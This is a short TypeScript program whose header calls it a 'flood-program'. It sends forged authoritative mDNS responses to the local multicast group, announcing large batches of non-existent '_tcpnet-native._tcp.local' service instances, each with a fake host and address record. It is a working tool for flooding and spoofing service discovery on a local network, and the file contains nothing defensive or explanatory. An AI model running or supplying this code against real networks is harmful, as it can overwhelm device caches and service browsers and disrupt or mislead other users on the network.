/** Announces instances that do not exist, each on a host of its own: flood-program ADDRESS COUNT */
import { createSocket } from 'node:dgram'
import { setTimeout as delay } from 'node:timers/promises'
import { type Answer, AUTHORITATIVE_ANSWER, encode } from 'dns-packet'

const TYPE = '_tcpnet-native._tcp.local'

function falseInstance(number: number, address: string): Answer[] {
  const [name, host] = [`${(0xf0000 + number).toString(16).toUpperCase()}.${TYPE}`, `h${number}.local`]
  return [
    { type: 'PTR', name: TYPE, ttl: 4500, data: name },
    { type: 'SRV', name, ttl: 120, flush: true, data: { port: 9, target: host } },
    { type: 'TXT', name, ttl: 4500, flush: true, data: ['v=1'] },
    { type: 'A', name: host, ttl: 120, flush: true, data: address }
  ]
}

const [address = '', count = ''] = process.argv.slice(2)
const socket = createSocket({ type: 'udp4', reuseAddr: true })
socket.bind(5353, async () => {
  socket.setMulticastInterface(address)
  socket.setMulticastTTL(255)
  for (let number = 0; number < Number(count); number += 5) {
    const answers = Array.from({ length: 5 }, (_, i) => falseInstance(number + i, address)).flat()
    socket.send(encode({ type: 'response', flags: AUTHORITATIVE_ANSWER, answers }), 5353, '224.0.0.251')
    await delay(5)
  }
  console.log('sent')
  socket.close()
})
